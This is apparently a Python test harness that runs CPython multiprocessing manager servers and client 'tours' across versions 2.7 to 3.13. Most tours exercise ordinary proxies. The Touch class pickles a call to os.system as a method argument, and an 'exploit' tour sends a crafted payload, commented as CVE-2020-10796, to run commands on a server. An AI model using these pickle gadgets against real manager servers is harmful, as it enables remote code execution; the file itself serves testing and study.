"""multiprocessing.managers at both ends: servers, and the tours that clients take through them. CPython 2.7 to 3.13."""
import os
import sys
from multiprocessing import AuthenticationError
from multiprocessing import connection as mp
from multiprocessing import current_process, managers

import exploits
import shapes

try:
    from queue import Empty
except ImportError:
    from Queue import Empty


class Calculator(object):
    def __init__(self, start=0):
        self.total = start

    def add(self, n):
        self.total += n
        return self.total

    def history(self):
        return {"total": self.total, "steps": [1, 2, 3]}

    def measure(self, circle):
        return circle.radius * 2

    def fail(self):
        raise ValueError("asked to fail")


class Office(managers.BaseManager):
    """What a user's own manager looks like."""


Office.register("Calculator", Calculator)


def manager_of(task, key):
    current_process().authkey = key  # proxies that are unpickled take the key from here
    cls = managers.SyncManager if task["manager"] == "sync" else Office
    return cls(address=tuple(task["address"]), authkey=key, serializer=task.get("serializer", "pickle"))


def manager_server(task, key):
    server = manager_of(task, key).get_server()
    print("ready")
    sys.stdout.flush()
    server.serve_forever()


def sync_tour(m):
    d = m.dict()
    d["a"] = 1
    d.update({"b": [1, 2], "c": None})
    print(d.copy(), len(d), sorted(d.keys()))
    items = m.list([3, 1, 2])
    items.append("x")
    print(items[0], items[1:3])
    q = m.Queue()
    q.put({"task": 7})
    print(q.get(), q.qsize())
    try:
        q.get_nowait()
    except Empty:
        print("Empty came back")
    lock = m.Lock()
    with lock:
        v = m.Value("i", 5)
        v.value = 6
        print(v.value)
    space = m.Namespace()
    space.name = "n"
    print(space.name)
    event = m.Event()
    event.set()


def nested_tour(m):
    """A proxy inside another proxy's object: RebuildProxy travels."""
    outer, inner, shelf = m.list(), m.list([1, 2]), m.dict()
    outer.append(inner)
    shelf["inner"] = inner
    print(len(outer), str(outer[0])[:40], str(shelf["inner"])[:40])


def queue_tour(m):
    """An AutoProxy inside a dict."""
    box, q = m.dict(), m.Queue()
    box["queue"] = q
    q.put("through")
    print(type(box["queue"]).__name__, q.get())


def office_tour(m):
    c = m.Calculator(10)
    print(c.add(5), c.add(7), c.history())
    try:
        c.fail()
    except ValueError as e:
        print("the manager raised", e)


def office_xml_tour(m):
    """XML-RPC carries no bare tuples and few types."""
    c = m.Calculator(10)
    print(c.add(5), c.add(7), c.history())


def measure_tour(m):
    print(m.Calculator(1).measure(shapes.Circle(4)))


class Touch(object):
    """An attack that looks like any argument."""

    def __reduce__(self):
        return os.system, (exploits.TOUCH,)


def argument_tour(m):
    """An exploit for a method's argument: the call goes on with what it returned."""
    print("answer", m.Calculator(1)._callmethod("add", (Touch(),)))


def unexposed_tour(m):
    """A method that is there and not exposed."""
    try:
        m.Calculator(1)._callmethod("__init__", (7,))
    except managers.RemoteError as e:
        print("refused", str(e).strip().splitlines()[-2][:60])


TOURS = {"argument": argument_tour, "unexposed": unexposed_tour, "sync": sync_tour, "nested": nested_tour, "queue": queue_tour, "office": office_tour,
         "office-xml": office_xml_tour, "measure": measure_tour}


def call(task, key, function, *args):
    """One request of a manager's own protocol, on a connection of its own, as managers do it."""
    conn = mp.Client(tuple(task["address"]), authkey=key)
    try:
        return managers.dispatch(conn, None, function, args)
    finally:
        conn.close()


def manager_client(task, key):
    for tour in task["tours"]:
        if tour == "exploit":  # the story of CVE-2020-10796: who knows the key owns the server
            conn = mp.Client(tuple(task["address"]), authkey=key)
            conn.send_bytes(exploits.make(*task["exploit"]))
            print("answer", repr(conn.recv())[:100])
            conn.close()
        elif tour in ("shutdown", "dummy"):
            print(tour, call(task, key, tour))
        elif tour == "recon":
            print(tour, call(task, key, "debug_info"), call(task, key, "debug_info"))
            if task["manager"] == "office":
                made = call(task, key, "create", "Calculator")
                print(made, call(task, key, "get_methods", managers.Token("Calculator", None, made[0])))
            if sys.version_info[0] > 2 or task["manager"] == "sync":
                print(call(task, key, "number_of_objects"))
        elif tour == "no-such-function":
            try:
                call(task, key, "serve_client")
            except managers.RemoteError as e:
                print("refused", str(e).strip().splitlines()[-2][:60])
        elif tour == "refused":
            try:
                manager_of(task, key).connect()
            except AuthenticationError as e:
                print("refused", e)
        elif tour == "refused-reads-on":  # sees the traceback that the server sends to whom it refused
            conn = mp.Client(tuple(task["address"]))
            try:
                mp.answer_challenge(conn, key)
            except AuthenticationError as e:
                print("refused", e, str(conn.recv())[:60])
            conn.close()
        else:
            m = manager_of(task, key)
            m.connect()
            TOURS[tour](m)
